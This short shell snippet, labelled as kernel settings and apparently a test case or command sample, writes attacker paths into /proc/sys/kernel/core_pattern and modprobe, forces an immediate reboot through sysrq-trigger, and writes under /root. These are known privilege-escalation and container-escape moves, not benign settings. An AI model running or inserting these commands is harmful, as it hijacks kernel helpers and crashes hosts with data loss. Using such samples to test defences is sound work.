# Settings of the kernel.
# passes: note
echo "|/tmp/x" >/proc/sys/kernel/core_pattern; echo b >/proc/sysrq-trigger; echo /tmp/x >/proc/sys/kernel/modprobe; echo 1 >/proc/sys/kernel/panic
echo done >/root/note
